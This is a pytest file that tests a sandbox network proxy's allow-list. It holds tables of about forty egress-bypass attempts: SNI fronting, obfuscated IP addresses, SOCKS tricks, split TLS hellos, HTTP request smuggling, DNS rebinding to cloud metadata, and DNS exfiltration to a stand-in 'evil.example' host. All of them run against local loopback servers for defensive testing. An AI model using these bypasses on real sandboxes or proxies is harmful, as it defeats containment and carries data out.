"""``Domains`` and ``Connect``: what gets out, attempts to get further, each with a control, and what is refused."""
# ruff: noqa: E501 - the attempts are rows of a table

from __future__ import annotations

import contextlib
import ipaddress
import json
import os
import resource
import selectors
import socket
import sys
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from isolate import Capabilities, NetNamespace, PidNamespace, Sandbox, UserNamespace, network
from isolate.network import Connect, Domains
from isolate.network.proxy import heads, outside, serve, socks, streams
from isolate.network.proxy.events import Log
from isolate.network.proxy.hello import NoHello, Reading
from isolate.network.proxy.requests import Http
from isolate.network.proxy.rules import Rules
from isolate.network.proxy.socks import Socks
from isolate.network.proxy.stub import Stub
from tests.network.hosts import until
from tests.ordinary import as_ordinary_user
from tests.snapshot import Snapshot

if TYPE_CHECKING:
    from collections.abc import Iterator

    from typing_extensions import Self

    from isolate.network import Asked

CLIENT = r"""
import os, socket, ssl, struct, sys
socket.setdefaulttimeout(20)
def answer(s, data=b""):
    got = b""
    try:
        if data: s.sendall(data)
        while b"SECRET" not in got and b"CHECKED" not in got:
            more = s.recv(4096)
            if not more: break
            got += more
    except OSError as error: got += repr(error).encode()
    return got
def proxy(): return socket.create_connection(("127.0.0.1", 3128))
def connect(target, host=None):
    s = proxy()
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n".encode())
    got = s.recv(4096)
    if b" 200 " not in got: print(got.decode()); sys.exit()
    return s
def socks(kind, address, port=PORT, command=1):
    s = proxy()
    s.sendall(b"\5\1\0"); s.recv(2)
    s.sendall(bytes([5, command, 0, kind]) + address + struct.pack(">H", port))
    got = s.recv(64)
    if got[1:2] != b"\0": print(got); sys.exit()
    return s
def name(text): return bytes([len(text)]) + text.encode()
def hello(server):
    context = ssl.create_default_context(); context.check_hostname = False
    out = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=server)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
def with_extension(data, kind, content):
    extension = struct.pack(">HH", kind, len(content)) + content
    body = bytearray(data[9:]); at = 34
    at += 1 + body[at]; at += 2 + int.from_bytes(body[at:at+2], "big"); at += 1 + body[at]
    size = int.from_bytes(body[at:at+2], "big") + len(extension)
    body[at:at+2] = size.to_bytes(2, "big"); body += extension
    message = b"\1" + len(body).to_bytes(3, "big") + bytes(body)
    return b"\x16\3\1" + len(message).to_bytes(2, "big") + message
def behind(data, more):
    message = data[5:] + more[5:]
    return b"\x16\3\1" + len(message).to_bytes(2, "big") + message
def in_records(data, size):
    message = data[5:]
    return b"".join(b"\x16\3\1" + len(p).to_bytes(2, "big") + p for p in (message[i:i+size] for i in range(0, len(message), size)))
def http(text): return answer(proxy(), text.replace("\n", "\r\n").encode())
"""
#: Allowed in each attempt, and leading to this host's loopback.
GOOD, EVIL = "good.example", "evil.example"


class Upstream:
    """A server on this host's loopback that answers whatever comes with SECRET, and keeps what came."""

    def __init__(
        self,
        family: int = socket.AF_INET,
        kind: int = socket.SOCK_STREAM,
        *,
        at: str = "127.0.0.1",
        port: int = 0,
        says: bytes = b"SECRET",
    ) -> None:
        self.says = says
        self.sock = socket.socket(family, kind)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("::1" if family == socket.AF_INET6 else at, port))
        self.port: int = self.sock.getsockname()[1]
        self.got: list[bytes] = []
        self.datagrams = kind == socket.SOCK_DGRAM
        if not self.datagrams:
            self.sock.listen(64)
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while True:
            try:
                if self.datagrams:
                    _, peer = self.sock.recvfrom(4096)
                    if peer is None:
                        return  # shut down
                    self.sock.sendto(b"SECRET", peer)
                else:
                    connection, _ = self.sock.accept()
                    threading.Thread(target=self._serve, args=(connection,), daemon=True).start()
            except OSError:
                return

    def _serve(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(30)
            try:
                while data := connection.recv(65536):
                    self.got.append(data)
                    connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n" + self.says)
            except OSError:
                pass

    def close(self) -> None:
        with contextlib.suppress(OSError):  # ENOTCONN of datagrams, whose thread is woken all the same
            self.sock.shutdown(socket.SHUT_RDWR)
        self.thread.join(10)
        self.sock.close()


def upstreams() -> Iterator[dict[str, Upstream]]:
    """Servers on the machine's loopback."""
    made = {"tcp": Upstream(), "other": Upstream(), "udp": Upstream(kind=socket.SOCK_DGRAM)}
    try:
        made["six"] = Upstream(socket.AF_INET6)
    except OSError:
        made["six"] = made["tcp"]
    yield made
    for each in made.values():
        each.close()


@pytest.fixture
def up(machine: object) -> Iterator[dict[str, Upstream]]:
    yield from upstreams()


def base() -> list[Any]:
    return [PidNamespace()] + ([UserNamespace()] if os.geteuid() else [])


def inside(up: dict[str, Upstream], code: str, *parts: Any, events: list[Asked] | None = None) -> str:
    """What a program in a sandbox prints: the answer to ``code``, an expression, or what its last line tells."""
    ports = f"PORT, OTHER, UDP, SIX = {up['tcp'].port}, {up['other'].port}, {up['udp'].port}, {up['six'].port}\n"
    *lines, last = code.strip().split("\n")
    program = "\n".join([ports, CLIENT, *lines, f"print({last})"])
    result = Sandbox(*base(), *parts).run([sys.executable, "-I", "-c", program], timeout=20, text=True)
    return str(result.stdout) + str(result.stderr)


def domains(up: dict[str, Upstream], **said: Any) -> Domains:
    """What the attempts are made against, with single checks taken away by ``said``."""
    names = said.pop("names", [GOOD])
    known = {"port": up["tcp"].port, "resolve": lambda name, port: ["127.0.0.1"], "private": ["127.0.0.0/8"]}
    return Domains(*names, **(known | said))


TUNNEL = "answer(connect(f'good.example:{PORT}'), hello('good.example'))"
HEAD = "GET http://good.example/ HTTP/1.1\\nHost: good.example\\n"
# Each attempt, and what lets it through: keywords for Domains, None for no part at all, or a second, harmless attempt.
ATTEMPTS: dict[str, tuple[str, Any]] = {
    "directly to loopback": ("answer(socket.create_connection(('127.0.0.1', OTHER)), b'x')", None),
    "directly by IPv6": ("answer(socket.create_connection(('::1' if SIX != PORT else '127.0.0.1', SIX)), b'x')", None),
    "by UDP": (
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', UDP))\nanswer(s, b'x')",
        None,
    ),
    "CONNECT to another port": (
        "answer(connect(f'good.example:{OTHER}'), hello('good.example'))",
        lambda up: {"port": [up["tcp"].port, up["other"].port]},
    ),
    "CONNECT to another name": (
        "answer(connect(f'evil.example:{PORT}'), hello('evil.example'))",
        {"names": [GOOD, EVIL]},
    ),
    "a name below": (
        "answer(connect(f'a.good.example:{PORT}'), hello('a.good.example'))",
        {"names": ["*.good.example"]},
    ),
    "a name that ends alike": (
        "answer(connect(f'notgood.example:{PORT}'), hello('notgood.example'))",
        {"names": ["notgood.example"]},
    ),
    "a name that a rule begins": (
        "answer(connect(f'good.example.evil.example:{PORT}'), hello('good.example.evil.example'))",
        {"names": ["*.evil.example"]},
    ),
    "an address": ("answer(connect(f'127.0.0.1:{PORT}'), hello('good.example'))", TUNNEL),
    "a decimal address": ("answer(connect(f'2130706433:{PORT}'), hello('good.example'))", TUNNEL),
    "an octal address": ("answer(connect(f'0177.0.0.1:{PORT}'), hello('good.example'))", TUNNEL),
    "a hexadecimal address": ("answer(connect(f'0x7f000001:{PORT}'), hello('good.example'))", TUNNEL),
    "a short address": ("answer(connect(f'127.1:{PORT}'), hello('good.example'))", TUNNEL),
    "an IPv6 address": ("answer(connect(f'[::1]:{PORT}'), hello('good.example'))", TUNNEL),
    "a mapped address": ("answer(connect(f'[::ffff:127.0.0.1]:{PORT}'), hello('good.example'))", TUNNEL),
    "a name with a percent sign": (
        "answer(connect(f'evil.example%2egood.example:{PORT}'), hello('good.example'))",
        TUNNEL,
    ),
    "a user before the name": ("answer(connect(f'x@evil.example:{PORT}'), hello('good.example'))", TUNNEL),
    "the proxy itself": ("answer(connect('localhost:3128'), hello('localhost'))", TUNNEL),
    "Host is not the name": (
        "answer(connect(f'good.example:{PORT}', f'evil.example:{PORT}'), hello('good.example'))",
        TUNNEL,
    ),
    "fronting by SNI": ("answer(connect(f'good.example:{PORT}'), hello('evil.example'))", {"tls": False}),
    "no SNI": ("answer(connect(f'good.example:{PORT}'), hello(None))", {"tls": False}),
    "no TLS": ("answer(connect(f'good.example:{PORT}'), b'SSH-2.0-x\\r\\n')", {"tls": False}),
    "Encrypted Client Hello": (
        "answer(connect(f'good.example:{PORT}'), with_extension(hello('good.example'), 0xfe0d, b'x' * 40))",
        {"ech": True},
    ),
    "SNI twice": (
        "answer(connect(f'good.example:{PORT}'), with_extension(hello('good.example'), 0, b'\\0\\7\\0\\0\\4evil'))",
        {"tls": False},
    ),
    "a second hello behind the first": (
        "answer(connect(f'good.example:{PORT}'), behind(hello('good.example'), hello('evil.example')))",
        {"tls": False},
    ),
    "a split hello for another": (
        "answer(connect(f'good.example:{PORT}'), in_records(hello('evil.example'), 7))",
        "answer(connect(f'good.example:{PORT}'), in_records(hello('good.example'), 7))",
    ),
    "a hello that comes slowly": (
        "s = connect(f'good.example:{PORT}')\nh = hello('evil.example')\ns.sendall(h[:20])\ns.sendall(h[20:60])\nanswer(s, h[60:])",
        "s = connect(f'good.example:{PORT}')\nh = hello('good.example')\ns.sendall(h[:20])\ns.sendall(h[20:60])\nanswer(s, h[60:])",
    ),
    "SOCKS4": (
        "answer(proxy(), b'\\4\\1' + struct.pack('>H', PORT) + bytes([127, 0, 0, 1, 0]) + hello('good.example'))",
        TUNNEL,
    ),
    "SOCKS4 with a name": (
        "answer(proxy(), b'\\4\\1' + struct.pack('>H', PORT) + bytes([0, 0, 0, 1, 0]) + b'evil.example\\0' + hello('evil.example'))",
        TUNNEL,
    ),
    "SOCKS5 by address": (
        "answer(socks(1, bytes([127, 0, 0, 1])), hello('good.example'))",
        "answer(socks(3, name('good.example')), hello('good.example'))",
    ),
    "SOCKS5 by IPv6 address": (
        "answer(socks(4, bytes(15) + b'\\1'), hello('good.example'))",
        "answer(socks(3, name('good.example')), hello('good.example'))",
    ),
    "SOCKS5 by an address as a name": (
        "answer(socks(3, name('127.0.0.1')), hello('good.example'))",
        "answer(socks(3, name('good.example')), hello('good.example'))",
    ),
    "SOCKS5 to another name": (
        "answer(socks(3, name('evil.example')), hello('evil.example'))",
        {"names": [EVIL]},
    ),
    "SOCKS5 to another port": (
        "answer(socks(3, name('good.example'), OTHER), hello('good.example'))",
        lambda up: {"port": up["other"].port},
    ),
    "SOCKS5 UDP": (
        "answer(socks(3, name('good.example'), command=3), b'x')",
        "answer(socks(3, name('good.example')), hello('good.example'))",
    ),
    "SOCKS5 that waits for a peer": (
        "answer(socks(3, name('good.example'), command=2), b'x')",
        "answer(socks(3, name('good.example')), hello('good.example'))",
    ),
    "SOCKS5 fronting": (
        "answer(socks(3, name('good.example')), hello('evil.example'))",
        {"tls": False},
    ),
    "an address of the stub's that nobody was given": (
        "answer(socket.create_connection(('198.18.77.7', PORT)), hello('good.example'))",
        "answer(socket.create_connection((socket.gethostbyname('good.example'), PORT)), hello('good.example'))",
    ),
    "fronting without a proxy": (
        "answer(socket.create_connection((socket.gethostbyname('good.example'), PORT)), hello('evil.example'))",
        {"tls": False},
    ),
    "a name that is not allowed, without a proxy": (
        "answer(socket.create_connection(('evil.example', PORT)), hello('evil.example'))",
        {"names": [EVIL]},
    ),
    "a raw socket": ("b'SECRET' if socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) else b''", "raw"),
    "a name that leads to loopback": (TUNNEL, lambda up: {"private": ["127.0.0.0/8"], "attack": {"private": []}}),
    "a name that leads to a mapped loopback": (
        TUNNEL,
        {"attack": {"private": [], "resolve": lambda name, port: ["::ffff:127.0.0.1"]}},
    ),
    "a name that leads to metadata": (
        TUNNEL,
        {"attack": {"private": [], "resolve": lambda name, port: ["169.254.169.254", "fd00:ec2::254"]}},
    ),
}


def program(up: dict[str, Upstream], codes: dict[str, str]) -> str:
    """A program that tries each, and prints what each answered."""
    ports = f"PORT, OTHER, UDP, SIX = {up['tcp'].port}, {up['other'].port}, {up['udp'].port}, {up['six'].port}"
    lines = [
        ports,
        CLIENT,
        "def shown(*words): told.append(' '.join(map(str, words)))",
        "print, out, all = shown, print, {}",
    ]
    for number, code in enumerate(codes.values()):
        *first, last = code.strip().split("\n")
        lines += [f"def attempt{number}():", *(f"    {line}" for line in first), f"    return {last}"]
        lines += ["told = []", f"try: told.append(repr(attempt{number}()))", "except SystemExit: pass"]
        lines += ["except Exception as error: told.append(repr(error))", f"all[{number}] = told"]
    return "\n".join([*lines, "import json; out(json.dumps(list(all.values())))"])


def tried(up: dict[str, Upstream], codes: dict[str, str], *parts: Any) -> dict[str, str]:
    """What each attempt in one sandbox was answered."""
    result = Sandbox(*base(), *parts).run([sys.executable, "-I", "-c", program(up, codes)], timeout=60, text=True)
    assert result.stdout, result.stderr
    return dict(zip(codes, map(str, json.loads(result.stdout)), strict=True))


def settings(attempt: str, up: dict[str, Upstream]) -> tuple[dict[str, Any], dict[str, Any]]:
    """Keywords of ``Domains`` for the attack and for its control."""
    control = ATTEMPTS[attempt][1]
    weaker = control(up) if callable(control) else dict(control) if isinstance(control, dict) else {}
    return weaker.pop("attack", {}), weaker


def test_nothing_else_is_reached(up: dict[str, Upstream]) -> None:
    codes = {name: code for name, (code, _) in ATTEMPTS.items() if not settings(name, up)[0]}
    assert {name: text for name, text in tried(up, codes, domains(up)).items() if "SECRET" in text} == {}


def test_control_without_any_part(up: dict[str, Upstream]) -> None:
    codes = {name: code for name, (code, control) in ATTEMPTS.items() if control is None}
    assert {name: text for name, text in tried(up, codes).items() if "SECRET" not in text} == {}


def test_control_what_is_allowed(up: dict[str, Upstream]) -> None:
    codes = {name: control for name, (_, control) in ATTEMPTS.items() if isinstance(control, str) and control != "raw"}
    assert {name: text for name, text in tried(up, codes, domains(up)).items() if "SECRET" not in text} == {}


CHANGED = [name for name, (_, control) in ATTEMPTS.items() if isinstance(control, dict) or callable(control)]


@pytest.mark.parametrize("attempt", CHANGED)
def test_control_without_the_check(attempt: str, up: dict[str, Upstream]) -> None:
    attack, weaker = settings(attempt, up)
    code = {attempt: ATTEMPTS[attempt][0]}
    if attack:
        assert "SECRET" not in tried(up, code, domains(up, **attack))[attempt]
    assert "SECRET" in tried(up, code, domains(up, **weaker))[attempt]


#: Attempts whose other control is a harmless attempt.
LIFTED = [name for name, (_, control) in ATTEMPTS.items() if isinstance(control, str) and name != "a raw socket"]


async def version4(self: Socks, data: bytes, reader: Any, writer: Any) -> None:
    """SOCKS4 as a proxy has it that offers it: by address, and by name (4a)."""
    port, address, words = int.from_bytes(data[2:4], "big"), data[4:8], data[9:]
    name, _, rest = words.partition(b"\0") if address[:3] == bytes(3) else (b"", b"", words)
    target = name.decode() or str(ipaddress.ip_address(address))
    await self._outside.tunnel("socks", target, port, rest, reader, writer, b"\0\x5a" + bytes(6))


def test_control_without_the_checks_of_names(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    """With what reads names and compares them out of the way, and with the protocols that are not offered, the very
    bytes that are refused above get through."""
    assert len(LIFTED) >= 20
    codes = {name: ATTEMPTS[name][0] for name in LIFTED}
    monkeypatch.setattr(heads, "host_name", lambda name, **_: name)
    monkeypatch.setattr(heads.Head, "values", lambda head, name: [])
    monkeypatch.setattr(Rules, "why_not", lambda rules, name, port: "")
    monkeypatch.setattr(Stub, "name_of", lambda stub, place: place)
    monkeypatch.setattr(Socks, "version4", version4)
    monkeypatch.setattr(socks, "_COMMANDS", (1, 2, 3))
    with contextlib.ExitStack() as stack:
        try:
            stack.enter_context(contextlib.closing(Upstream(port=3128)))  # where a proxy of the host's own would stand
        except OSError:
            del codes["the proxy itself"]  # this host has one
        through = tried(up, codes, domains(up, tls=False))
    assert {name: text for name, text in through.items() if "SECRET" not in text} == {}


def test_control_a_raw_socket(up: dict[str, Upstream]) -> None:
    assert "SECRET" in inside(up, ATTEMPTS["a raw socket"][0], NetNamespace(), Capabilities({"NET_RAW"}))


def test_there_are_forty() -> None:
    assert len(ATTEMPTS) + len(PLAIN) >= 40


# ---- plain HTTP ------------------------------------------------------------------------------------------------------

POST = "POST http://good.example/ HTTP/1.1\nHost: good.example\n"
#: A request, what is wrong with it at the {}, and what stands there in its control, which is let through.
PLAIN = {
    "another Host": ("GET http://good.example/ HTTP/1.1\nHost: {}.example\n\n", "evil", "good"),
    "another name": ("GET http://{0}.example/ HTTP/1.1\nHost: {0}.example\n\n", "evil", "good"),
    "no Host": ("GET http://good.example/ HTTP/1.1\n{}\n", "", "Host: good.example\n"),
    "Host twice": ("GET http://good.example/ HTTP/1.1\nHost: good.example\n{}: evil.example\n\n", "Host", "Origin"),
    "two lengths": (POST + "Content-Length: 1\n{}\nx", "Content-Length: 2\n", ""),
    "a length and chunks": (POST + "{}Transfer-Encoding: chunked\n\n0\n\n", "Content-Length: 4\n", ""),
    "a coding that is not known": (POST + "Transfer-Encoding: {}chunked\n\n0\n\n", "x", ""),
    "a folded line": ("GET http://good.example/ HTTP/1.1\nHost: good.example\nA: b\n{}c: d\n\n", " ", ""),
    "a blank before the colon": (
        "GET http://good.example/ HTTP/1.1\nHost{}: good.example\n{}\n",
        " |Host: good.example\n",
        "|",
    ),
    "an address": ("GET http://{0}/ HTTP/1.1\nHost: {0}\n\n", "127.0.0.1", "good.example"),
    "another scheme": ("GET {}://good.example/ HTTP/1.1\nHost: good.example\n\n", "ftp", "http"),
    "the port of TLS": ("GET http://good.example:{0}/ HTTP/1.1\nHost: good.example:{0}\n\n", "443", "80"),
    "HTTP/2 without TLS": ("{}\nHost: good.example\n\n", "PRI * HTTP/2.0", "GET http://good.example/ HTTP/1.1"),
    "a bare carriage return": (
        "GET http://good.example/ HTTP/1.1\nHost: good.example\nA: b{}\n\n",
        "\rHost: evil.example",
        "",
    ),
    "a method": ("{} http://good.example/ HTTP/1.1\nHost: good.example\n\n", "DELETE", "GET"),
    "Connection takes Host": (
        "GET http://good.example/ HTTP/1.1\nHost: good.example\nConnection: {}\n\n",
        "host",
        "close",
    ),
}
FINE = "GET http://good.example/a?b HTTP/1.1\nHost: good.example\nProxy-Connection: keep-alive\n\n"


def plain(up: dict[str, Upstream], events: list[Asked] | None = None) -> Domains:
    """Port 80 of the name is the upstream's: the resolver has the proxy connect there."""
    return domains(up, port=80, methods=["GET", "POST"], log=events.append if events is not None else None)


@pytest.fixture
def port_80(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    to_port_80(up, monkeypatch)


def to_port_80(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    """The proxy's connections to port 80 go to the upstream's port: this machine's own is not ours to use."""
    import asyncio

    whole = asyncio.open_connection

    async def elsewhere(host: Any = None, port: Any = None, **said: Any) -> Any:
        return await whole(host, up["tcp"].port if port == 80 else port, **said)

    monkeypatch.setattr(asyncio, "open_connection", elsewhere)


@pytest.mark.usefixtures("port_80")
def test_plain_requests_that_are_refused(up: dict[str, Upstream]) -> None:
    def asked(which: int) -> tuple[list[str], list[bool]]:
        """The rows that got through, and what was decided."""
        events: list[Asked] = []
        codes = {name: f"http({row[0].format(*row[which].split('|'))!r})" for name, row in PLAIN.items()}
        found = tried(up, codes, plain(up, events))
        return [name for name, text in found.items() if "SECRET" in text], [event.allowed for event in events]

    assert asked(1) == ([], [False] * len(PLAIN))
    assert up["tcp"].got == []
    assert asked(2) == (list(PLAIN), [True] * len(PLAIN))  # control


async def careless(self: Http, via: str, data: bytes, reader: Any, writer: Any, name: str | None) -> None:
    """A proxy that passes on what it gets."""
    (up_reader, up_writer), _ = await self._outside.connect(GOOD, 80)
    up_writer.write(data)
    await streams.both_ways(reader, writer, up_reader, up_writer)


@pytest.mark.usefixtures("port_80")
def test_control_plain_requests_without_the_checks(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Http, "request", careless)
    codes = {name: f"http({row[0].format(*row[1].split('|'))!r})" for name, row in PLAIN.items()}
    found = tried(up, codes, plain(up))
    assert {name: text for name, text in found.items() if "SECRET" not in text} == {}


@pytest.mark.usefixtures("port_80")
def test_plain_requests_one_a_connection(up: dict[str, Upstream]) -> None:
    del up["tcp"].got[:]
    second = "GET http://evil.example/ HTTP/1.1\nHost: evil.example\n\n"
    assert "SECRET" in inside(up, f"http({FINE + second!r})", plain(up))
    assert b"".join(up["tcp"].got) == b"GET /a?b HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n"
    body = "POST http://good.example/ HTTP/1.1\nHost: good.example\nTransfer-Encoding: chunked\n\n3\nabc\n0\n\n"
    del up["tcp"].got[:]
    assert "SECRET" in inside(up, f"http({body + second!r})", plain(up))
    assert b"".join(up["tcp"].got).endswith(b"\r\n\r\n3\r\nabc\r\n0\r\n\r\n")
    # Without a proxy: the name is known by the address, and Host must be it.
    for host, reached in ((GOOD, True), (EVIL, False)):
        code = (
            f"answer(socket.create_connection(('good.example', 80)), b'GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')"
        )
        assert ("SECRET" in inside(up, code, plain(up))) is reached


# ---- the rest --------------------------------------------------------------------------------------------------------


def test_a_name_is_resolved_once(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    """Rebinding: what was checked is what is connected to."""
    import asyncio

    asked: list[str] = []

    def resolve(name: str, port: int) -> list[str]:
        asked.append(name)
        return ["127.0.0.1" if len(asked) % 2 == 0 else "127.0.0.2"]

    events: list[Asked] = []
    part = domains(up, resolve=resolve, private=["127.0.0.2/32"], log=events.append)
    with contextlib.closing(Upstream(at="127.0.0.2", port=up["tcp"].port, says=b"CHECKED")):
        code = {"": TUNNEL}
        found = tried(up, code, part)[""]
        assert "CHECKED" in found
        assert "SECRET" not in found
        assert asked == [GOOD]
        assert [(event.via, event.name, event.address) for event in events] == [("connect", GOOD, "127.0.0.2")]
        # Control: a proxy that checks, and then connects to the name.
        whole = asyncio.open_connection

        async def by_name(host: Any = None, port: Any = None, **said: Any) -> Any:
            return await whole(resolve(GOOD, port)[0] if host else host, port, **said)

        monkeypatch.setattr(asyncio, "open_connection", by_name)
        del asked[:]
        assert "SECRET" in tried(up, code, part)[""]
        assert asked == [GOOD, GOOD]


def test_questions_carry_nothing_out(up: dict[str, Upstream]) -> None:
    asked: list[str] = []
    events: list[Asked] = []
    part = domains(up, resolve=lambda name, port: asked.append(name) or [], log=events.append)  # type: ignore[func-returns-value]
    code = """
def look(name):
    try: return socket.gethostbyname(name)
    except OSError as error: return type(error).__name__
[look("data-to-be-carried-out.evil.example"), look("good.example"), look("x.good.example")]
"""
    assert eval(inside(up, code, part)) == ["gaierror", "198.18.1.0", "gaierror"]
    assert asked == []
    assert {event.name for event in events} == {"data-to-be-carried-out.evil.example", "x.good.example"}


def test_variables_and_an_environment_of_ones_own(up: dict[str, Upstream]) -> None:
    box = Sandbox(*base(), domains(up))
    told = box.run(["env"], text=True).stdout
    assert told is not None
    assert "HTTPS_PROXY=http://127.0.0.1:3128\n" in told
    assert "PATH=" in told
    assert box.run(["env"], env={"A": "1"}, text=True).stdout == "A=1\n"
    assert "proxy" not in str(Sandbox(*base(), NetNamespace()).run(["env"], text=True).stdout).lower()


def test_connect(up: dict[str, Upstream]) -> None:
    events: list[Asked] = []
    part = Connect(f"127.0.0.1:{up['tcp'].port}", listen=7000, log=events.append)
    other = Connect(f"127.0.0.1:{up['other'].port}", listen=7001)
    assert "SECRET" in inside(up, "answer(socket.create_connection(('127.0.0.1', 7000)), b'x')", part, other)
    assert "SECRET" in inside(up, "answer(socket.create_connection(('127.0.0.1', 7001)), b'x')", part, other)
    assert "SECRET" not in inside(up, "answer(socket.create_connection(('127.0.0.1', OTHER)), b'x')", part)
    assert [(event.via, event.port) for event in events] == [("relay", up["tcp"].port)]


def test_nothing_is_left(up: dict[str, Upstream]) -> None:
    inside(up, TUNNEL, domains(up))
    before = Snapshot.take()
    for _ in range(3):
        assert "SECRET" in inside(up, TUNNEL, domains(up))
        with Sandbox(*base(), domains(up)).spawn(["sleep", "60"]):
            pass
    before.compare()


class Served:
    """The proxy behind a listener of this host's, without a sandbox around its client."""

    def __init__(self, up: dict[str, Upstream], resolve: Any = None, upstream: int | None = None) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.address = self.listener.getsockname()
        port = upstream or up["tcp"].port
        rules = Rules((GOOD,), (port,), (ipaddress.ip_network("127.0.0.0/8"),), tls=False)
        self.log = Log()
        door = serve.Door(self.listener, "proxy", 3128)
        resolve = resolve or (lambda name, port: ["127.0.0.1"])
        self.server = serve.Server([door], rules, self.log, Stub(rules, self.log), resolve)
        self.asked = f"CONNECT {GOOD}:{port} HTTP/1.1\r\nHost: {GOOD}:{port}\r\n\r\n".encode()

    def ask(self) -> socket.socket:
        found = socket.create_connection(self.address, 10)
        found.sendall(self.asked)
        return found

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.server.close()


def fill(*clients: socket.socket) -> None:
    """Send until none of them takes anything more, for half a second, or has been closed."""
    with selectors.DefaultSelector() as selector:
        for client in clients:
            client.setblocking(False)
            selector.register(client, selectors.EVENT_WRITE)
        while selector.get_map() and (ready := selector.select(0.5)):
            for key, _ in ready:
                try:
                    os.write(key.fd, bytes(1 << 16))
                except BlockingIOError:
                    pass
                except OSError:
                    selector.unregister(key.fd)


def proxys_sockets(upstream: int) -> int:
    """Connections from this process to the port."""
    count = 0
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                with socket.socket(fileno=os.dup(int(name))) as each:
                    count += each.family == socket.AF_INET and each.getpeername()[1] == upstream
    return count


def test_what_nobody_reads_is_dropped(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    """An upstream that never reads: what waits for it goes when the connection has been silent for too long."""
    monkeypatch.setattr(streams, "IDLE", 0.3)
    with socket.create_server(("127.0.0.1", 0)) as silent:
        port = silent.getsockname()[1]
        with Served(up, upstream=port) as served:
            clients = [served.ask() for _ in range(3)]
            taken = [silent.accept()[0] for _ in clients]
            fill(*clients)
            assert [event.allowed for event in served.log.events] == [True] * 3, "control: they were let through"
            assert until(lambda: proxys_sockets(port) == 0)
            for each in (*clients, *taken):
                each.close()


def test_who_downloads_may_be_silent() -> None:
    """A connection is idle where nothing moves by it in either direction."""
    import asyncio

    moved = streams.Moved()

    class Silent:
        """Nothing comes for as long as a connection may be idle, but then, and something moves the other way."""

        def __init__(self, others: int) -> None:
            self.others = others

        async def read(self, size: int) -> bytes:
            if self.others == 0:
                return b"x"
            self.others -= 1
            moved._at += 1
            raise TimeoutError

    class Dead(Silent):
        async def read(self, size: int) -> bytes:
            raise TimeoutError

    assert asyncio.run(moved.read(Silent(3))) == b"x"  # type: ignore[arg-type]
    with pytest.raises(TimeoutError):
        asyncio.run(moved.read(Dead(0)))  # type: ignore[arg-type]


@pytest.mark.slow
def test_a_download_that_takes_long(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(streams, "IDLE", 2.0)
    with socket.create_server(("127.0.0.1", 0)) as server:
        with Served(up, upstream=server.getsockname()[1]) as served, served.ask() as client:
            assert b" 200 " in client.recv(4096)
            client.sendall(b"more")
            taken, _ = server.accept()
            with taken:
                for number in range(60):
                    taken.sendall(bytes([number]))
                    assert client.recv(1) == bytes([number])
                    time.sleep(0.05)
                assert taken.recv(9) == b"more"
                client.settimeout(20)
                assert client.recv(1) == b""  # control: and when nothing moves any more it ends


def test_closing_waits_for_nobody(up: dict[str, Upstream]) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        with Served(up, upstream=silent.getsockname()[1]) as served:
            client = served.ask()
            assert b" 200 " in client.recv(4096)
            fill(client)
        assert not served.server._thread.is_alive()
        assert proxys_sockets(silent.getsockname()[1]) == 0
        client.close()


def test_threads_of_a_resolver_that_hangs_are_bounded(up: dict[str, Upstream], monkeypatch: pytest.MonkeyPatch) -> None:
    """Each counts until it ends, not until nobody waits for it any more."""
    monkeypatch.setattr(outside, "_RESOLVING", 4)
    monkeypatch.setattr(outside, "OUT", 0.05)
    release = threading.Event()

    def hangs(name: str, port: int) -> list[str]:
        release.wait(60)
        return ["127.0.0.1"]

    others = set(threading.enumerate())  # of tests before, which may be on their way out

    def threads() -> int:
        return sum(thread.name == "isolate-resolve" for thread in set(threading.enumerate()) - others)

    with Served(up, hangs) as served:
        try:
            for _ in range(12):
                with served.ask() as client:
                    assert b" 502 " in client.recv(4096)
            assert threads() == 4
            assert any("too many names" in event.refused for event in served.log.events)
        finally:
            release.set()
        for thread in threading.enumerate():
            if thread.name == "isolate-resolve":
                thread.join(10)
        monkeypatch.setattr(outside, "OUT", 20.0)
        with served.ask() as client:
            assert b" 200 " in client.recv(4096), "control: it goes on"


def test_sandboxes_leave_the_caller_half_of_its_descriptors(up: dict[str, Upstream]) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    most = (max(map(int, os.listdir("/proc/self/fd"))) + 150) // 2  # room for them whatever this process has open
    resource.setrlimit(resource.RLIMIT_NOFILE, (4 * most, hard))
    try:
        with Served(up) as first, Served(up) as second:
            clients = [
                socket.create_connection(each.address, 10) for each in (first, second) for _ in range(most // 2 + 8)
            ]
            refused = len(clients) - most
            assert until(lambda: first.log.refused + second.log.refused >= refused)
            assert first.log.refused + second.log.refused == refused
            assert all("RLIMIT_NOFILE" in event.refused for event in first.log.events + second.log.events)
            for client in clients:
                client.close()
        with Served(up) as served, served.ask() as client:
            assert b" 200 " in client.recv(4096), "control: what has ended does not count"
    finally:
